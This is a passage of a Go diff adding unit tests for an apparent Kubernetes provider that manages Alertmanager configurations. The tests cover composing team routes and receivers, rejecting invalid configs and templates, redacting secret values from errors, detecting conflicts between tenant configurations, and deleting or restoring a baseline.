+				events: rejected(errors.New("AlertmanagerRoute team-a refers to receiver pager, which is neither a receiver of its team nor of the configuration")),
+			},
+		},
+		"ComposedOtherTeams": {
+			reason: "An invalid AlertmanagerRoute of one team should not keep the objects of other teams out of the configuration.",
+			kube: teamKube(
+				[]v1alpha1.AlertmanagerRoute{teamRoute("team-a", "team-a-ns", "tenant", "missing"), teamRoute("team-b", "team-b-ns", "tenant", "pager")},
+				[]v1alpha1.AlertmanagerReceiver{teamReceiver("pager", "team-b-ns", "tenant", "http://b.example.com/hook")}),
+			cr: configuration(withAlertmanagerConfig(rawConfig), withProviderConfig("tenant")),
+			want: want{
+				cfg: `receivers:
+  - name: team
+  - name: team-b-ns/pager
+    webhook_configs:
+      - url: http://b.example.com/hook
+route:
+  receiver: team
+  routes:
+    - continue: true
+      matchers:
+        - namespace="team-b-ns"
+        - severity="critical"
+      receiver: team-b-ns/pager
+`,
+				events: rejected(errors.New("AlertmanagerRoute team-a refers to receiver missing, which is neither a receiver of its team nor of the configuration")),
+			},
+		},
+		"ComposedDuplicateReceiver": {
+			reason: "An AlertmanagerReceiver named like a receiver of the configuration should be left out.",
+			kube: teamKube(nil,
+				[]v1alpha1.AlertmanagerReceiver{teamReceiver("team", "", "tenant", "http://a.example.com/hook")}),
+			cr: configuration(withAlertmanagerConfig(rawConfig), withProviderConfig("tenant")),
+			want: want{
+				cfg:    "receivers:\n  - name: team\nroute:\n  receiver: team\n",
+				events: rejected(errors.New("AlertmanagerReceiver team has the name of a receiver of the configuration")),
+			},
+		},
+		"InvalidConfig": {
+			reason:    "A configuration the Alertmanager config loader rejects should not be pushed and be reported by a condition.",
+			createErr: errors.New("unexpected push"),
+			cr:        configuration(withAlertmanagerConfig("route:\n  receiver: missing\nreceivers:\n  - name: team\n")),
+			want: want{
+				condition: conditionPtr(v1alpha1.InvalidConfig(errors.New(errDesiredConfig + `: undefined receiver "missing" used in route`))),
+				err:       errors.Wrap(errors.New(`undefined receiver "missing" used in route`), errDesiredConfig),
+			},
+		},
+		"InvalidTemplate": {
+			reason:    "A template file that does not compile should not be pushed and be reported by a condition naming the file and line.",
+			createErr: errors.New("unexpected push"),
+			cr: configuration(withAlertmanagerConfig(rawConfig),
+				withTemplateFile("a", `{{ define "a" }}{{ end }}`),
+				withTemplateFile("b", "{{ define \"b\" }}\n{{ .Labels | nosuchfunc }}\n{{ end }}")),
+			want: want{
+				condition: conditionPtr(v1alpha1.InvalidTemplate(errors.New(errInvalidTemplates + `: template_files[b]: template: b:2: function "nosuchfunc" not defined`))),
+				err:       errors.Wrap(errors.New(`template_files[b]: template: b:2: function "nosuchfunc" not defined`), errInvalidTemplates),
+			},
+		},
+		"RedactErrors": {
+			reason:    "Secret values should be redacted from errors.",
+			kube:      secretKube(map[string]string{"password": "s3cret"}),
+			createErr: errors.New("invalid smtp_auth_password s3cret"),
+			cr: configuration(
+				withAlertmanagerConfig("global:\n  smtp_auth_password: ${password}\n"+rawConfig),
+				withSecretRef("password", "password")),
+			want: want{
+				cfg: "global:\n  smtp_auth_password: s3cret\n" + rawConfig,
+				err: errors.New("invalid smtp_auth_password <secret>"),
+			},
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			var got want
+			kube := tc.kube
+			if kube == nil {
+				kube = &test.MockClient{MockList: test.NewMockListFn(nil)}
+			}
+			rec := &recorder{}
+			e := external{kube: kube, recorder: rec, providerConfigs: []string{"tenant", "other"}, service: &mockAlertManagerClient{
+				MockCreateAlertmanagerConfig: func(_ context.Context, cfg string, templates map[string]string) error {
+					got.cfg, got.templates = cfg, templates
+					return tc.createErr
+				},
+			}}
+			_, got.err = e.Create(context.Background(), tc.cr)
+			got.events = rec.events
+			if tc.want.condition != nil {
+				c := tc.cr.GetCondition(v1alpha1.TypeConfigValid)
+				got.condition = &c
+			}
+			if diff := cmp.Diff(tc.want, got, test.EquateErrors(), test.EquateConditions(), cmp.AllowUnexported(want{})); diff != "" {
+				t.Errorf("\n%s\ne.Create(...): -want, +got:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func TestFindConflict(t *testing.T) {
+	created := time.Date(2023, 6, 1, 12, 0, 0, 0, time.UTC)
+
+	pc := func(name, address string) apisv1alpha1.ProviderConfig {
+		p := apisv1alpha1.ProviderConfig{}
+		p.SetName(name)
+		p.Spec.Address = address
+		p.Spec.TenantID = "tenant"
+		return p
+	}
+	named := func(name string, mods ...configurationModifier) v1alpha1.AlertManagerConfiguration {
+		cr := configuration(mods...)
+		cr.SetName(name)
+		return *cr
+	}
+
+	// kube holds the ProviderConfigs a and b of the same tenant and the
+	// given AlertManagerConfigurations by ProviderConfig.
+	kube := func(configs map[string][]v1alpha1.AlertManagerConfiguration) client.Reader {
+		return &test.MockClient{
+			MockList: func(_ context.Context, list client.ObjectList, opts ...client.ListOption) error {
+				o := &client.ListOptions{}
+				o.ApplyOptions(opts)
+				switch l := list.(type) {
+				case *apisv1alpha1.ProviderConfigList:
+					if o.FieldSelector.String() != tenantIndexKey+"=http://cortex|tenant" {
+						return errors.Errorf("unexpected field selector %s", o.FieldSelector)
+					}
+					l.Items = []apisv1alpha1.ProviderConfig{pc("a", "http://cortex/"), pc("b", "HTTP://cortex")}
+				case *v1alpha1.AlertManagerConfigurationList:
+					name, _ := o.FieldSelector.RequiresExactMatch(providerConfigIndexKey)
+					l.Items = configs[name]
+				}
+				return nil
+			},
+		}
+	}
+
+	this := named("this", withCreationTimestamp(created))
+
+	cases := map[string]struct {
+		reason  string
+		configs map[string][]v1alpha1.AlertManagerConfiguration
+		want    string
+	}{
+		"Alone": {
+			reason:  "The only configuration of a tenant should not conflict.",
+			configs: map[string][]v1alpha1.AlertManagerConfiguration{"a": {this}},
+		},
+		"Newer": {
+			reason: "A configuration created before the ones of other ProviderConfigs of the tenant should not conflict.",
+			configs: map[string][]v1alpha1.AlertManagerConfiguration{
+				"a": {this},
+				"b": {named("newer", withCreationTimestamp(created.Add(time.Minute)))},
+			},
+		},
+		"Older": {
+			reason: "A configuration created after one of another ProviderConfig of the tenant should conflict with it.",
+			configs: map[string][]v1alpha1.AlertManagerConfiguration{
+				"a": {this},
+				"b": {named("older", withCreationTimestamp(created.Add(-time.Minute)))},
+			},
+			want: "older",
+		},
+		"SameTime": {
+			reason: "Configurations created at the same time should be ordered by name.",
+			configs: map[string][]v1alpha1.AlertManagerConfiguration{
+				"a": {this, named("other", withCreationTimestamp(created))},
+			},
+			want: "other",
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			p := pc("a", "http://cortex/")
+			k := kube(tc.configs)
+			pcs, err := tenantProviderConfigs(context.Background(), k, &p)
+			if err != nil {
+				t.Fatalf("\n%s\ntenantProviderConfigs(...): unexpected error: %v", tc.reason, err)
+			}
+			got, err := findConflict(context.Background(), k, &this, pcs)
+			if err != nil {
+				t.Fatalf("\n%s\nfindConflict(...): unexpected error: %v", tc.reason, err)
+			}
+			if diff := cmp.Diff(tc.want, got); diff != "" {
+				t.Errorf("\n%s\nfindConflict(...): -want, +got:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func TestDelete(t *testing.T) {
+	const baseline = "route:\n  receiver: catch-all\nreceivers:\n  - name: catch-all\n"
+
+	type want struct {
+		calls  []string
+		events []event.Event
+		err    error
+	}
+
+	cases := map[string]struct {
+		reason string
+		kube   client.Reader
+		cr     *v1alpha1.AlertManagerConfiguration
+		want   want
+	}{
+		"Delete": {
+			reason: "The configuration should be deleted by default.",
+			cr:     configuration(withAlertmanagerConfig(rawConfig)),
+			want:   want{calls: []string{"delete"}},
+		},
+		"DeleteAction": {
+			reason: "The configuration should be deleted by the Delete action.",
+			cr:     configuration(withAlertmanagerConfig(rawConfig), withOnDelete(v1alpha1.OnDeleteDelete, nil)),
+			want:   want{calls: []string{"delete"}},
+		},
+		"Restore": {
+			reason: "The Restore action should replace the configuration with the baseline and record it.",
+			kube:   baselineKube(baseline),
+			cr:     configuration(withAlertmanagerConfig(rawConfig), withOnDelete(v1alpha1.OnDeleteRestore, baselineRef)),
+			want: want{
+				calls: []string{"create " + baseline},
+				events: []event.Event{event.Normal(reasonRestoredBaseline,
+					`Restored baseline configuration from key "baseline" of ConfigMap monitoring/baseline`)},
+			},
+		},
+		"RestoreWithoutRef": {
+			reason: "The Restore action without a baseline should be an error.",
+			cr:     configuration(withAlertmanagerConfig(rawConfig), withOnDelete(v1alpha1.OnDeleteRestore, nil)),
+			want:   want{err: errors.New(errNoBaselineRef)},
+		},
+		"RestoreInvalidBaseline": {
+			reason: "An invalid baseline should not be restored.",
+			kube:   baselineKube("route:\n  receiver: missing\n"),
+			cr:     configuration(withAlertmanagerConfig(rawConfig), withOnDelete(v1alpha1.OnDeleteRestore, baselineRef)),
+			want: want{
+				err: errors.Wrap(errors.New(`undefined receiver "missing" used in route`), errInvalidBaseline),
+			},
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			var got want
+			rec := &recorder{}
+			e := external{kube: tc.kube, recorder: rec, service: &mockAlertManagerClient{
+				MockCreateAlertmanagerConfig: func(_ context.Context, cfg string, _ map[string]string) error {
+					got.calls = append(got.calls, "create "+cfg)
+					return nil
+				},
+				MockDeleteAlermanagerConfig: func(_ context.Context) error {
+					got.calls = append(got.calls, "delete")
+					return nil
+				},
+			}}
+			got.err = e.Delete(context.Background(), tc.cr)
+			got.events = rec.events
+			if diff := cmp.Diff(tc.want, got, test.EquateErrors(), cmp.AllowUnexported(want{})); diff != "" {
+				t.Errorf("\n%s\ne.Delete(...): -want, +got:\n%s\n", tc.reason, diff)
+			}
 		})
 	}
 }